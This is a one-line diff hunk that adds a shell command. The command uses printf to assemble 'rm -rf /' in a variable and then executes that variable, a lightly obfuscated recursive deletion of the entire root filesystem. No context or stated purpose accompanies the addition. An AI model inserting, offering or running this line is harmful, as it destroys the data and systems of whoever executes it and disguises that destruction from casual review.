@@ -1,0 +1,1 @@
+printf -v c 'rm -rf %s' /; $c
